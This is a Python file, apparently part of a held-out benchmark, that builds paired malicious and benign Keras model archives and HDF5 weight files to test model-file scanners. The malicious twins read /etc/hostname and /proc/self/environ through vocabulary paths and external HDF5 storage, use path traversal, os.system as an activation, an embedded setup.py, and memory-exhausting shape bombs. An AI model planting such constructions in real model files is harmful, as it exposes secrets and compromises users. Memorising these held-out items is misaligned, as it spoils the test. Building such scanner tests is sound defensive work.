"""Attacks by Keras layers that read files, and by storage of HDF5 that lies elsewhere."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

from bench.modelfiles.heldout.keras_parts import LOADED, WEIGHTS_H5, archive, function, layer, sequential, weights
from bench.modelfiles.heldout.parts import hdf5, zipped
from bench.modelfiles.heldout.sample import Content, Group, Sample

group = Group("Keras")


def files() -> Iterator[Sample]:
    """Yield layers that read files or fetch URLs when the model is loaded."""
    words = ["cat", "dog"]
    for name, kind, path, effect in (
        ("string-lookup", "StringLookup", "/etc/hostname", "the vocabulary is a local file, which ends up in the model (CVE-2025-12058)"),
        ("integer-lookup", "IntegerLookup", "http://example.com/v.txt", "the vocabulary is fetched from a URL"),
        ("text-vectorization", "TextVectorization", "/proc/self/environ", "the vocabulary is a file of the process"),
    ):
        attack, twin = (
            layer(kind, name="v", vocabulary=path, max_tokens=None),
            layer(kind, name="v", vocabulary=words if kind != "IntegerLookup" else [1, 2], max_tokens=None),
        )
        yield from group.pair(name, f"{name}.keras", archive(sequential(attack)), archive(sequential(twin)), f"{LOADED}; {effect}")
    graph, plain = layer("TFSMLayer", filepath="/tmp/x/saved", call_endpoint="serve"), layer("Dense", units=2)
    lookup = layer(
        "FeatureSpace", "keras.utils", None, features={"a": {"preprocessor": layer("StringLookup", vocabulary="//example.com/share/v.txt")}}
    )
    words_in = layer("FeatureSpace", "keras.utils", None, features={"a": {"preprocessor": layer("StringLookup", vocabulary=words)}})
    config = json.dumps(sequential(plain))
    other = json.dumps(sequential(layer("Dense", units=1, activation=function("os", "system"))))
    parts: list[tuple[str, Content]] = [("metadata.json", "{}"), ("config.json", config), ("model.weights.h5", WEIGHTS_H5)]
    yield from group.pairs(
        ("saved-model", "tfsm.keras", archive(sequential(graph)), archive(sequential(plain)),
         f"{LOADED}; TFSMLayer loads another SavedModel, which may hold any graph"),
        ("saved-model-nested", "deep.keras", archive(sequential(layer("Bidirectional", layer=layer("TimeDistributed", layer=graph)))),
         archive(sequential(layer("Bidirectional", layer=layer("LSTM", units=2)))), f"{LOADED}; the TFSMLayer lies two wrappers deep"),
        ("feature-space", "features.keras", archive(sequential(lookup)), archive(sequential(words_in)),
         f"{LOADED}; a nested vocabulary lies on a network share"),
        ("climbing-member", "assets.keras", archive(sequential(plain), {"assets/../../../../tmp/x/vocabulary.txt": "cat\n"}),
         archive(sequential(plain), {"assets/layers/v/vocabulary.txt": "cat\n"}),
         "a member of the archive climbs out of the folder into which assets are unpacked"),
        ("program-inside", "code.keras", archive(sequential(plain), {"assets/setup.py": "import os\nos.system('echo harmless')\n"}),
         archive(sequential(plain), {"assets/readme.txt": "Trained on public data.\n"}),
         "the archive brings a program, which loaders of custom objects import"),
        ("member-twice", "double.keras", zipped([*parts, ("config.json", other)]), zipped([*parts, ("assets/config.json", config)]),
         f"{LOADED}; the last of two members of this name counts"),
    )  # fmt: skip


def storage() -> Iterator[Sample]:
    """Yield weights whose shapes are bombs, or whose bytes lie in other files."""
    import h5py

    def huge(file: Any) -> None:
        file.create_dataset("layers/dense/vars/0", shape=(1 << 40,), maxshape=(None,), chunks=(1024,), dtype="f4")

    def chunked(file: Any) -> None:
        file.create_dataset("layers/dense/vars/0", data=[0.5] * 64, maxshape=(None,), chunks=(32,), dtype="f4")

    def external(file: Any) -> None:
        file.create_dataset("layers/dense/vars/0", shape=(16,), dtype="u1", external=[("/etc/hostname", 0, 16)])

    def link(file: Any) -> None:
        file["layers/dense/vars"] = h5py.ExternalLink("/tmp/x/secret.h5", "/vars")

    def soft(file: Any) -> None:
        weights(file)
        file["layers/again"] = h5py.SoftLink("/layers/dense")

    def virtual(file: Any, name: str = "../../secret.h5") -> None:
        layout = h5py.VirtualLayout((4,), "f4")
        layout[:] = h5py.VirtualSource(name, "data", shape=(4,))
        file.create_virtual_dataset("layers/dense/vars/0", layout)

    def inner(file: Any) -> None:
        file.create_dataset("data", data=[0.5] * 4, dtype="f4")
        virtual(file, ".")

    config = (
        sequential(layer("Dense", units=1 << 31, kernel_initializer="zeros")),
        sequential(layer("Dense", units=64, kernel_initializer="zeros")),
    )
    inside = archive(sequential(layer("Dense", units=2)), {"model.weights.h5": hdf5(external)})
    yield from group.pairs(
        ("shape-bomb", "model.weights.h5", hdf5(huge), hdf5(chunked), "load_weights allocates four terabytes for a dataset without data (CVE-2026-0897)"),
        ("external-storage", "outside.weights.h5", hdf5(external), WEIGHTS_H5, "the weights are bytes of a local file (CVE-2026-1669)"),
        ("external-link", "linked.weights.h5", hdf5(link), hdf5(soft), "the group lies in another HDF5 file, by an absolute path"),
        ("virtual", "virtual.weights.h5", hdf5(virtual), hdf5(inner), "a virtual dataset reads a file above the folder"),
        ("units-bomb", "wide.keras", archive(config[0]), archive(config[1]), f"{LOADED}; a layer of two billion units takes all memory"),
        ("external-inside", "packed.keras", inside, archive(sequential(layer("Dense", units=2))), "the weights in the archive are bytes of a local file"),
    )  # fmt: skip
